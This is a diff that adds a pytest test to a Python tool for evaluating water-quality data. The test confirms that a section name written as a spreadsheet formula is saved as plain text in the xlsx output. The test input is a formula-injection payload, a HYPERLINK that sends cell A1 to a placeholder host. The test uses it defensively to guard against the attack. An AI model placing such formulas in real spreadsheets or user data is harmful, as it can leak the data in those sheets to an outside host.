@@ -184,3 +184,19 @@ def test_it_exits_2_when_the_scheme_wants_a_column_we_do_not_make(
     )
     assert "'water.nope'" in capsys.readouterr().err
     assert listing(tmp_path) == ["in.csv"]
+
+
+def test_formula_like_section_names_stay_text_in_xlsx(tmp_path):
+    # issue 8 §2.3: a section named "=HYPERLINK(…)" is written as text with a leading ' (kaohe.core.xlsx_text),
+    # on the sections sheet and inside the units sheet's list columns.
+    hostile = '=HYPERLINK("http://x?x="&A1,"click")'
+    quoted = '"' + hostile.replace('"', '""') + '"'
+    lines = [HEADER] + [f"S1,{quoted},U1,river,III,provincial,2020,{m},0.8,0.1" for m in range(1, 13)]
+    source = tmp_path / "in.csv"
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "out.xlsx"
+    assert main(["water", "evaluate", str(source), "--year", "2020", "--out", str(out)]) == 0
+    book = load_workbook(out)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert len(cells) == 3  # section_name; the unit's wq_sections and rebound_sections
+    assert all((c.value, c.data_type) == ("'" + hostile, "s") for c in cells)
